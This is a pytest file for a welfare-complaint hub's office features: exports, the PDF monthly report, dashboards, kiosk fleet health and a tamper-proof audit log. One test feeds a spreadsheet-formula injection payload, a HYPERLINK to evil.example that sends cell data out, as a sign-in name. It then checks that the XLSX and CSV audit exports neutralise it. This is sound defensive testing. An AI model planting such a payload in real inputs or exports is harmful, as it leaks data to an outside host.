"""What the office takes away: filtered exports (CSV, XLSX), the monthly PDF report, the dashboards with
their sample sizes, the kiosk fleet, and the auditor's audit log with its export."""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess

import openpyxl
import pytest

from kiosk.hub import cases, stats
from kiosk.hub.accounts import User
from kiosk.hub.exports import HEADERS
from kiosk.link.signing import sign

SUPERVISOR = User("jiwei", "supervisor", None)


def _filed(office) -> list[int]:  # type: ignore[no-untyped-def]
    ids = [office.file(n, programme="dibao" if n % 2 else "pension_basic") for n in range(1, 8)]
    cases.act(office.store, ids[0], SUPERVISOR, "assign", {"department": "县民政局"}, office.clock.now)
    cases.act(
        office.store,
        ids[0],
        SUPERVISOR,
        "answer",
        {"outcome": "resolved", "reply": "已补发123元"},
        office.clock.now,
    )
    return ids


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_holds_exactly_the_filtered_rows(office, kind):
    _filed(office)
    client = office.sign_in("jiwei")
    response = client.get(f"/office/export.{kind}?programme=dibao&per_page=25&page=1")
    assert response.status_code == 200
    if kind == "xlsx":
        rows = list(openpyxl.load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True))
    else:
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert list(rows[0]) == HEADERS
    assert len(rows) - 1 == 4  # complaints 1, 3, 5, 7 are 低保
    answered = [row for row in rows[1:] if row[0] == "K7QM-0000-1"]
    assert (
        answered
        and answered[0][10] == "已答复"
        and answered[0][11] == "县民政局"
        and answered[0][-1] == "已补发123元"
    )
    assert ("jiwei", "export_complaints") in [(e["actor"], e["action"]) for e in office.store.audit_entries()]


def test_the_monthly_report_is_a_pdf_with_the_months_figures(office, tmp_path):
    _filed(office)
    office.clock.advance(days=5)  # complaints 2–7 are now unassigned for more than 3 days: overdue
    response = office.sign_in("jiwei").get("/office/report?month=2026-11")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    path = tmp_path / "report.pdf"
    path.write_bytes(response.data)
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "2026年11月 群众反映月报" in text and "本月收到 7 件" in text
    assert "没收到" in text and "K7QM-0000-7" in text and "逾期清单（截至生成时，6 件）" in text
    assert office.sign_in("jiwei").get("/office/report?month=2026-13").status_code == 400


def test_the_dashboard_shows_charts_and_sample_sizes(office):
    ids = _filed(office)
    for complaint in ids[1:]:
        cases.act(
            office.store,
            complaint,
            SUPERVISOR,
            "assign",
            {"department": "县人力资源和社会保障局"},
            office.clock.now,
        )
    office.clock.advance(days=20)
    page = office.sign_in("jiwei").get("/office/dashboard").get_data(as_text=True)
    assert page.count("<svg") >= 6
    assert "100%（6/6）" in page  # all six of 人社局's are overdue
    assert "0%（0/1）" in page and "样本少，不排名" in page  # 民政局's single complaint is not ranked
    rates = dict(stats.overdue_by_department(office.store, office.clock.now))
    assert rates["县人力资源和社会保障局"].rankable and not rates["县民政局"].rankable


def test_the_fleet_shows_dead_and_living_kiosks(office):
    client = office.client()
    secret = office.store.register_kiosk("kiosk-1", office.clock.now)
    office.store.register_kiosk("kiosk-2", office.clock.now)
    for minute in range(60):  # kiosk-1 beats every minute for an hour, kiosk-2 never
        body = b'{"outbox_backlog": 2, "card_reads_today": %d}' % minute
        headers = {
            "Content-Type": "application/json",
            **sign(kiosk_id="kiosk-1", secret=secret, method="POST", path="/api/v1/heartbeat", body=body),
        }
        assert client.post("/api/v1/heartbeat", data=body, headers=headers).status_code == 200
        office.clock.advance(minutes=1)
    health = {k.kiosk_id: k for k in stats.fleet(office.store, office.clock.now)}
    assert health["kiosk-1"].state == "ok" and health["kiosk-2"].state == "dead"
    assert health["kiosk-1"].uptime.part == 60 and health["kiosk-1"].backlog == 2
    assert health["kiosk-1"].reads_per_day == pytest.approx(59 / 7)
    page = office.sign_in("admin").get("/office/fleet").get_data(as_text=True)
    assert "超过1天未联系" in page and page.index("kiosk-2") < page.index('data-kiosk="kiosk-1"')
    office.clock.advance(minutes=20)
    assert {k.kiosk_id: k.state for k in stats.fleet(office.store, office.clock.now)}["kiosk-1"] == "late"


def test_the_auditor_reads_and_exports_the_audit_log(office, tmp_path):
    office.sign_in("jiwei").get("/office/")
    client = office.sign_in("shenji")
    page = client.get("/office/audit?actor=jiwei").get_data(as_text=True)
    assert "list_complaints" in page
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/office/audit.xlsx").data))
    rows = list(workbook.active.iter_rows(values_only=True))
    assert rows[0] == ("时间（UTC）", "操作人", "操作", "对象", "结果")
    assert ("jiwei", "login") in [(r[1], r[2]) for r in rows[1:]]


def test_the_audit_log_cannot_be_rewritten(office):
    import sqlalchemy as sa

    office.store.record_audit("x", "y", "z", "ok", office.clock.now)
    for statement in ("UPDATE audit_log SET outcome = 'changed'", "DELETE FROM audit_log"):
        with pytest.raises(sa.exc.DatabaseError), office.store.engine.begin() as conn:
            conn.execute(sa.text(statement))
    assert office.store.audit_entries()[-1]["outcome"] == "ok"


def test_a_hostile_sign_in_name_is_no_formula_in_the_audit_exports(office):
    """The red-team signed in as =HYPERLINK(...) without an account: it came out as a live formula."""
    import csv

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    office.client().post("/office/login", data={"name": hostile, "password": "x"})
    auditor = office.sign_in("shenji")
    book = openpyxl.load_workbook(io.BytesIO(auditor.get("/office/audit.xlsx").data))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert any(cell.value == hostile for cell in cells) and all(cell.data_type != "f" for cell in cells)
    text = auditor.get("/office/audit.csv").data.decode("utf-8-sig")
    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert "'" + hostile in values and hostile not in values


def test_the_inbox_shows_the_money_each_complaint_is_about(office):
    office.file(1)  # owed 123.00, paid 0
    page = office.sign_in("jiwei").get("/office/").get_data(as_text=True)
    assert '<td class="money">¥123.00</td>' in page


def test_objections_to_a_disclosure_are_received_and_counted_in_the_monthly_report(office):
    """An objection from 村务公开 is a complaint of its own category: the hub's intake accepts its entry and
    anonymity, and the month's figures count it beside the others."""
    from kiosk.hub import report
    from tests.helpers.hub import complaint_payload

    _filed(office)
    objection = complaint_payload(90, category="disclosure_objection", programme="dibao")
    objection["phone"] = ""
    objection["evidence"] = {
        "rule_version": "v1",
        "as_of": "2026-11-01",
        "programme_name": "农村最低生活保障",
        "objection": {
            "entry_id": "cf9d29b9821c2c3c",
            "village": "石桥村",
            "state": "new",
            "head_name": "蒋春梅",
            "household_size": 2,
            "monthly_amount": 60000,
            "reason": "better_off",
        },
        "objector": "anonymous",
    }
    office.store.receive_complaint("kiosk-1", objection, office.clock.now)
    counted = dict(report.figures(office.store, report.Month(2026, 11), office.clock.now)["by_category"])
    assert counted["对公示有异议"] == 1 and counted["没收到"] == 7


def test_the_monthly_report_opens_on_the_months_story(office, tmp_path):
    """First page: complaints and findings apart, withdrawals counted apart, the money at stake and
    recovered, where it clusters; never a （未填） label."""
    from tests.helpers.hub import complaint_payload

    ids = _filed(office)
    unlisted = complaint_payload(20, category="should_qualify", programme="")
    office.store.receive_complaint("kiosk-1", unlisted, office.clock.now)
    office.store.withdraw_complaint("kiosk-1", complaint_payload(7)["uuid"], office.clock.now)
    finding = complaint_payload(30, category="check_finding", programme="dibao")
    finding["evidence"] = {
        "as_of": "2026-11-01",
        "at_stake_fen": 50000,
        "finding": {"check": "registered_death", "title": "死亡登记之后仍发放（外部死亡登记）"},
    }
    office.store.receive_complaint("kiosk-1", finding, office.clock.now)
    cases.act(office.store, ids[2], SUPERVISOR, "assign", {"department": "县民政局"}, office.clock.now)
    cases.act(
        office.store,
        ids[2],
        SUPERVISOR,
        "answer",
        {"outcome": "rectified", "reply": "已追回", "recovered": "120"},
        office.clock.now,
    )
    response = office.sign_in("jiwei").get("/office/report?month=2026-11")
    path = tmp_path / "report.pdf"
    path.write_bytes(response.data)
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    first_page = text.split("\f")[0]
    assert "本月要点" in first_page and "问题最集中的地方" in first_page
    assert "本月新收群众反映 7 件、监督检查发现 1 件" in first_page and "另有 1 件群众自行撤回" in first_page
    assert "追回资金 120.00 元（1 件）" in first_page and "死亡登记之后仍发放" in first_page
    assert "（未填）" not in text and "（不涉及具体项目）" in text


def test_the_fleet_shows_each_kiosks_version_and_data_date_and_flags_old_ones(office, tmp_path):
    """The heartbeat carries the software version and the ledger's date; the fleet page flags a kiosk on
    another version, or with data older than OLD_DATA_DAYS."""
    import json as json_module

    from kiosk.core.version import software_version
    from kiosk.link.relay import heartbeat_payload
    from kiosk.store import open_store

    client = office.client()
    today = office.clock.now.date()
    beats = {
        "kiosk-new": {"software_version": software_version(), "data_date": today.isoformat()},
        "kiosk-old": {"software_version": "0.0.1", "data_date": (today - dt.timedelta(days=90)).isoformat()},
    }
    for kiosk_id, said in beats.items():
        secret = office.store.register_kiosk(kiosk_id, office.clock.now)
        body = json_module.dumps({"outbox_backlog": 0, "card_reads_today": 1, **said}).encode()
        headers = {
            "Content-Type": "application/json",
            **sign(kiosk_id=kiosk_id, secret=secret, method="POST", path="/api/v1/heartbeat", body=body),
        }
        assert client.post("/api/v1/heartbeat", data=body, headers=headers).status_code == 200
    health = {k.kiosk_id: k for k in stats.fleet(office.store, office.clock.now)}
    assert (health["kiosk-new"].old_software, health["kiosk-new"].old_data) == (False, False)
    assert (health["kiosk-old"].old_software, health["kiosk-old"].old_data) == (True, True)
    page = office.sign_in("admin").get("/office/fleet").get_data(as_text=True)
    row = page[page.index('data-kiosk="kiosk-old"') :][:1200]
    assert "0.0.1" in row and "旧版本" in row and "数据过旧" in row
    store = open_store(tmp_path / "remote-kiosk.db")  # a kiosk with no ledger of its own
    said = json_module.loads(heartbeat_payload(store))
    assert said["software_version"] == software_version() and "data_date" not in said  # no ledger here
